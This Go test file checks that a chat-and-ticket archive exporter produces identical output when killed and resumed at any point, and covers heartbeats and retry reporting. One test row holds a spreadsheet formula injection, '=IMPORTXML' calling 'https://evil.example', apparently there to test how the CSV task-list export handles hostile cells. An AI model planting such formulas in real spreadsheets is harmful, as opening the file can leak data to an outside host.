package archive_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"hikeshi/activities"
	"hikeshi/activities/archive"
	"hikeshi/activities/internal/talk"
)

// long is a case in which one channel has several pages and one thread has, too.
func long() *world {
	w := ordinary()
	w.open("C0LONG", "long", "")
	for i := range 460 {
		m := talk.Message{TS: ts(1000 + i), User: "U0AKI", Author: "Aki Tanaka", Text: fmt.Sprintf("line %d %s", i, strings.Repeat("x", i%50))}
		if i > 200 && i < 420 {
			m.Thread = ts(1000 + 200)
		}
		w.says("C0LONG", m)
	}
	w.chat.size, w.store.chunk = 30, 16384
	return w
}

// things is how many things happen in an export of the world.
func things(t *testing.T, w *world) int {
	t.Helper()
	_, err := run[archive.Exported](t, w, false, w.activities().ExportConversation, w.asked())
	require.NoError(t, err)
	return w.seen
}

// Whatever breaks off, before or after it had its effect, and whether or not the heartbeat arrives: the next attempt ends
// with the same bytes.
func TestKilledAnywhere(t *testing.T) {
	undisturbed := long()
	want, err := run[archive.Exported](t, undisturbed, false, undisturbed.activities().ExportConversation, undisturbed.asked())
	require.NoError(t, err)
	require.Greater(t, undisturbed.seen, 40)
	for strike := 1; strike <= undisturbed.seen; strike++ {
		for _, resume := range []bool{false, true} {
			after := (strike%2 == 0) == resume // each way of it is met often enough
			w := long()
			w.strike, w.after = strike, after
			_, err := run[archive.Exported](t, w, false, w.activities().ExportConversation, w.asked())
			wantFault(t, err, activities.Unavailable, "struck")
			got, err := run[archive.Exported](t, w, resume, w.activities().ExportConversation, w.asked())
			require.NoError(t, err, "strike %d", strike)
			require.Equal(t, want, got, "strike %d, after %t, resume %t", strike, after, resume)
			require.Equal(t, string(undisturbed.content("m")), string(w.content("m")))
			require.Equal(t, string(undisturbed.content("t")), string(w.content("t")))
			require.Len(t, w.store.files, 4) // two of people
		}
	}
}

// Killed again and again, an export still moves on: what is done once is not done again.
func TestKilledAgainAndAgain(t *testing.T) {
	w, undisturbed := long(), long()
	for i := range 2000 {
		m := talk.Message{TS: ts(2000 + i), User: "U0AKI", Author: "Aki Tanaka", Text: fmt.Sprintf("more %d", i)}
		w.says("C0LONG", m)
		undisturbed.says("C0LONG", m)
	}
	w.chat.size = 100
	want, err := run[archive.Exported](t, undisturbed, false, undisturbed.activities().ExportConversation, undisturbed.asked())
	require.NoError(t, err)
	var got archive.Exported
	attempts := 0
	for {
		attempts++
		w.seen, w.strike = 0, 80
		if got, err = run[archive.Exported](t, w, true, w.activities().ExportConversation, w.asked()); err == nil {
			break
		}
		require.Less(t, attempts, 20, "it does not get ahead")
	}
	require.Greater(t, attempts, 2)
	require.Equal(t, want, got)
	require.Equal(t, string(undisturbed.content("t")), string(w.content("t")))
	require.Equal(t, 2, w.store.opened, "it began anew")
}

// A heartbeat may be older than what the store has: then the store has more than the note says.
func TestOldHeartbeat(t *testing.T) {
	undisturbed := long()
	want, err := run[archive.Exported](t, undisturbed, false, undisturbed.activities().ExportConversation, undisturbed.asked())
	require.NoError(t, err)
	w := long()
	w.chat.size, w.store.chunk = 20, 8192
	w.strike = 30
	_, err = run[archive.Exported](t, w, false, w.activities().ExportConversation, w.asked())
	require.Error(t, err)
	old := w.beat
	w.seen, w.strike = 0, 45
	_, err = run[archive.Exported](t, w, true, w.activities().ExportConversation, w.asked())
	require.Error(t, err)
	require.NotEqual(t, string(old), string(w.beat))
	w.beat, w.strike = old, 0
	got, err := run[archive.Exported](t, w, true, w.activities().ExportConversation, w.asked())
	require.NoError(t, err)
	require.Equal(t, want, got)
	require.Equal(t, 2, w.store.opened)
}

// An upload that the store has forgotten is begun anew, and so is one about which it said twice that something is wrong.
func TestForgottenUpload(t *testing.T) {
	w := long()
	w.strike = 40
	_, err := run[archive.Exported](t, w, false, w.activities().ExportConversation, w.asked())
	require.Error(t, err)
	clear(w.store.sessions)
	w.strike = 0
	m := w.make(t)
	w.audited(t)
	require.NotZero(t, m.said)
	require.Equal(t, 4+3, w.store.opened)
}

func TestDamagedUpload(t *testing.T) {
	w := long()
	w.strike = things(t, long()) - 2
	_, err := run[archive.Exported](t, w, false, w.activities().ExportConversation, w.asked())
	require.Error(t, err)
	w.store.sessions["session 2"].content[100] ^= 1
	w.strike = 0
	for range 2 {
		_, err = run[archive.Exported](t, w, true, w.activities().ExportConversation, w.asked())
		wantFault(t, err, activities.Ambiguous, "other bytes")
	}
	_, err = run[archive.Exported](t, w, true, w.activities().ExportConversation, w.asked())
	require.NoError(t, err)
	w.beat = nil
	w.make(t)
	w.audited(t)
}

// Every other activity, too.
func TestOthersKilledAnywhere(t *testing.T) {
	undisturbed := ordinary()
	m := undisturbed.make(t)
	steps := map[string]func(w *world) (any, error){
		"tickets": func(w *world) (any, error) {
			return run[archive.Artifact](t, w, true, w.activities().ExportTickets, archive.ExportTickets{Effect: effect("tickets"), Tickets: append([]string{"case"}, w.logs...), File: to("j", "ticket.json")})
		},
		"tasks": func(w *world) (any, error) {
			return run[archive.Artifact](t, w, true, w.activities().ExportTasks, archive.ExportTasks{Effect: effect("tasks"), Sheet: "sheet", File: to("x", "tasks.xlsx")})
		},
		"task list": func(w *world) (any, error) {
			rows := [][]string{{"Id", "Task"}, {"t1", "=IMPORTXML(\"https://evil.example\")"}}
			return run[archive.Artifact](t, w, true, w.activities().ExportTaskList, archive.ExportTaskList{Effect: effect("task list"), Rows: rows, File: to("l", "tasks.csv")})
		},
		"manifest": func(w *world) (any, error) {
			return run[archive.Manifest](t, w, true, w.activities().WriteManifest, archive.WriteManifest{
				Effect: effect("manifest"), Number: "SEC-42", Artifacts: m.artifacts, Counts: m.said.Counts, Logs: w.logs, File: to("f", "manifest.json"),
			})
		},
		"verify": func(w *world) (any, error) {
			return run[archive.Verified](t, w, true, w.activities().VerifyArchive, w.toVerify(m))
		},
	}
	for name, step := range steps {
		t.Run(name, func(t *testing.T) {
			w := ordinary()
			w.make(t)
			w.seen, w.beat = 0, nil
			want, err := step(w)
			require.NoError(t, err)
			for strike := w.seen; strike > 0; strike-- {
				for _, after := range []bool{false, true} {
					w.seen, w.strike, w.after, w.beat = 0, strike, after, nil
					_, err := step(w)
					f := wantFault(t, err, activities.Unavailable, "struck")
					require.Len(t, f.Attempts, 1)
					got, err := step(w)
					require.NoError(t, err)
					require.Equal(t, want, got)
					w.audited(t)
				}
			}
		})
	}
}

// Errors tell of every attempt, as far as the notes reach.
func TestAttemptsAreTold(t *testing.T) {
	w := ordinary()
	for attempt := 1; attempt <= 25; attempt++ {
		w.seen, w.strike = 0, 3
		_, err := run[archive.Exported](t, w, true, w.activities().ExportConversation, w.asked())
		f := wantFault(t, err, activities.Unavailable, "struck")
		require.Len(t, f.Attempts, min(attempt, 20))
		require.Equal(t, activities.Unavailable, f.Attempts[0].Class)
	}
}

// What an older version left in the heartbeat does no harm, and a note never grows so large that Temporal refuses it.
func TestHeartbeat(t *testing.T) {
	for _, other := range []string{`[1,2]`, `{"at":7}`, `"x"`, `{"at":{"tallies":[{}],"channel":3}}`} {
		w := ordinary()
		w.beat = json.RawMessage(other)
		_, err := run[archive.Exported](t, w, true, w.activities().ExportConversation, w.asked())
		require.NoError(t, err, other)
	}
	noisy := func() *world {
		w := long()
		w.store.chunk = 1 << 30 // nothing is ever sent before the end
		for i := range 60 {
			w.says("C0LONG", talk.Message{TS: ts(5000 + i), Text: noise(40000)})
		}
		return w
	}
	w := noisy()
	w.strike = things(t, noisy()) - 2
	_, err := run[archive.Exported](t, w, false, w.activities().ExportConversation, w.asked())
	require.Error(t, err)
	require.Less(t, len(w.beat), 2<<20)
	w.strike = 0
	_, err = run[archive.Exported](t, w, true, w.activities().ExportConversation, w.asked())
	require.NoError(t, err)
	w.beat = nil
	w.make(t)
	w.audited(t)
}

// noise is a text that cannot be compressed much, the same each time.
func noise(n int) string {
	var b strings.Builder
	x := uint32(n)
	for range n {
		x = x*1664525 + 1013904223
		b.WriteByte("0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ+/"[x>>26])
	}
	return b.String()
}
